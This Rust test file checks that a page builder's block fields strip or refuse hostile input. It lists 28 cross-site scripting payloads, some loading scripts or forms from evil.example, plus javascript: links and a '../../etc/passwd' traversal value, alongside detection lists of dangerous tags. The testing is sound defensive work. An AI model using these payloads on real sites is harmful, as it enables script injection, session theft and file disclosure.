//! Hostile HTML, Markdown and addresses in every text field of every type of block: nothing of it runs, on the page or in
//! the editor.

use serde_json::{Map, Value, json};
use voluntr::resources::page::block_types::{BLOCK_TYPES, Field, Kind};

use super::{page, save};
use crate::support::server::Server;

/// From the list of OWASP, and what is particular to Markdown.
const ATTACKS: [&str; 28] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=`javascript:alert(1)`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//evil.example/x.swf>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"/\\evil.example\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"position:fixed\" class=\"is-full\" id=\"content\">x</p>",
    "<form action=//evil.example><input name=q><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "\"><script>alert(1)</script>",
    "'-alert(1)-' {{ 7*7 }} {% raw %} ${7*7}",
    "[x](javascript:alert(1)) [y](<javascript:alert(1)>) ![z](javascript:alert(1)) <javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x] [a](//evil.example) <b onmouseover=alert(1)>b</b>",
    "</section></main></body></html><script>alert(1)</script>",
];

/// Content with the same text in every field that takes text.
fn filled(fields: &[Field], text: &str) -> Map<String, Value> {
    let mut content = Map::new();
    for field in fields {
        let cut = |max: usize| text.chars().take(max).collect::<String>();
        let value = match field.kind {
            Kind::Line { max }
            | Kind::RichText { max }
            | Kind::LongText { max }
            | Kind::Markdown { max } => json!(cut(max)),
            Kind::Link => json!({ "href": "/over-ons", "label": cut(40) }),
            Kind::Picture => json!({ "stock": "koffie", "alt": cut(200) }),
            Kind::Video => json!("dQw4w9WgXcQ"),
            Kind::List { fields, .. } => json!([filled(fields, text)]),
            Kind::Choice(choices) => json!(choices[0]),
            Kind::Flag => json!(true),
            Kind::Number { min, .. } => json!(min),
            Kind::Form | Kind::Filter | Kind::ActivityFilter => continue,
        };
        content.insert(field.name.to_owned(), value);
    }
    content
}

/// What only the templates may write.
fn faults_of(html: &str, clean: &str) -> Vec<String> {
    let mut faults = Vec::new();
    let lower = html.to_lowercase();
    for never in [
        "<script", "<iframe", "<object", "<embed", "<base", "<meta", "<link ", "<style", "<mglyph",
        "<math",
    ] {
        if lower.contains(never) {
            faults.push(never.to_owned());
        }
    }
    // Addresses inside tags; what is escaped stands outside of them.
    for tag in lower.split('<').skip(1) {
        let inside = tag.split('>').next().unwrap_or_default();
        for never in [
            "=\"javascript:",
            "href=\"//",
            "href=\"/\\",
            "=\"data:",
            "src=\"//",
        ] {
            if inside.contains(never) {
                faults.push(format!("{never} in <{inside}>"));
            }
        }
    }
    // Attributes that run: inside a tag, where escaped text cannot be.
    for tag in html.split('<').skip(1) {
        // Quoted values are text; what is left are the names of attributes.
        let names: String = tag.split('"').step_by(2).collect();
        let names = names.split('>').next().unwrap_or_default().to_lowercase();
        for run in [
            " onerror",
            " onload",
            " onclick",
            " onmouseover",
            " style",
            " srcdoc",
        ] {
            if names.contains(run) {
                faults.push(format!("{run} in <{names}>"));
            }
        }
    }
    // As many sections and forms as without the attack.
    for tag in [
        "<section",
        "</section>",
        "<form",
        "<main",
        "</main>",
        "<svg",
        "<h1",
    ] {
        if lower.matches(tag).count() != clean.to_lowercase().matches(tag).count() {
            faults.push(format!("{tag} {} times", lower.matches(tag).count()));
        }
    }
    faults
}

#[test]
fn nothing_that_somebody_writes_in_a_block_runs() {
    let server = Server::start();
    let marieke = server.as_center();
    let id = page(&marieke, "Vijandig");
    let render = |content: Vec<Map<String, Value>>, kind: &str| {
        let blocks: Vec<Value> = content
            .into_iter()
            .map(|content| json!({ "block_type": kind, "content": content }))
            .collect();
        let shown = marieke
            .post(
                &format!("/api/v1/pages/{id}/render"),
                &json!({ "blocks": blocks }),
            )
            .expect(200);
        let list = shown.at("/blocks");
        let list = list.as_array().unwrap();
        list.iter()
            .map(|block| block["html"].as_str().unwrap().to_owned())
            .collect::<Vec<_>>()
    };
    for kind in BLOCK_TYPES {
        let contents = std::iter::once("Tekst")
            .chain(ATTACKS)
            .map(|text| filled(kind.fields, text))
            .collect();
        let htmls = render(contents, kind.name);
        assert_eq!(htmls.len(), ATTACKS.len() + 1);
        for (attack, html) in ATTACKS.iter().zip(&htmls[1..]) {
            let faults = faults_of(html, &htmls[0]);
            assert!(
                faults.is_empty(),
                "{} {attack}: {faults:?}\n{html}",
                kind.name
            );
        }
    }
}

#[test]
fn what_is_stored_is_clean_and_a_link_is_one() {
    let server = Server::start();
    let marieke = server.as_center();
    let id = page(&marieke, "Schoon");
    let text = |html: &str| json!({ "blocks": [{ "block_type": "ImageTextButtons", "content": { "title": "Kop", "text": html } }] });
    let kept = save(&marieke, &id, &text("<h1>Kop</h1><p class=\"x\" onclick=\"y\">Hoi <b>vet</b> <a href=\"javascript:x\">a</a> <a href=\"//evil.example\">b</a> <a href=\"/over-ons\" target=\"_blank\">c</a></p><script>x</script>")).expect(200);
    let stored = kept.at("/data/0/attributes/content/text");
    let stored = stored.as_str().unwrap();
    assert!(
        stored.contains("<strong>vet</strong>") && stored.contains("href=\"/over-ons\""),
        "{stored}"
    );
    for gone in [
        "onclick",
        "class",
        "javascript",
        "evil",
        "script",
        "<h1",
        "target",
    ] {
        assert!(!stored.contains(gone), "{gone}: {stored}");
    }
    for href in [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        "//evil.example",
        "/\\evil.example",
        "data:text/html,x",
        "https://",
        "over-ons",
        "ftp://x.nl",
    ] {
        let sent = json!({ "blocks": [{ "block_type": "CallToAction", "content": { "title": "x", "link": { "href": href, "label": "Ga" } } }] });
        let refused = save(&marieke, &id, &sent).expect(422);
        assert_eq!(refused.pointer(), "/blocks/0/content/link/href", "{href}");
    }
    for (content, pointer) in [
        (json!({ "titel": "x" }), "/blocks/0/content/titel"),
        (json!({ "title": 7 }), "/blocks/0/content/title"),
        (
            json!({ "title": "x".repeat(121) }),
            "/blocks/0/content/title",
        ),
        (
            json!({ "text": "x".repeat(5_001) }),
            "/blocks/0/content/text",
        ),
        (
            json!({ "picture": { "upload_id": "99999" } }),
            "/blocks/0/content/picture/upload_id",
        ),
        (
            json!({ "picture": { "stock": "../../etc/passwd" } }),
            "/blocks/0/content/picture/stock",
        ),
        (
            json!({ "picture": { "stock": "koffie", "alt": "x".repeat(201) } }),
            "/blocks/0/content/picture/alt",
        ),
        (
            json!({ "picture_side": "boven" }),
            "/blocks/0/content/picture_side",
        ),
        (
            json!({ "buttons": [{}, {}, {}] }),
            "/blocks/0/content/buttons",
        ),
    ] {
        let sent = json!({ "blocks": [{ "block_type": "ImageTextButtons", "content": content }] });
        let refused = save(&marieke, &id, &sent).expect(422);
        assert_eq!(refused.pointer(), pointer);
    }
    let unknown = json!({ "blocks": [{ "block_type": "Iframe", "content": {} }] });
    assert_eq!(
        save(&marieke, &id, &unknown).expect(422).pointer(),
        "/blocks/0/block_type"
    );
}
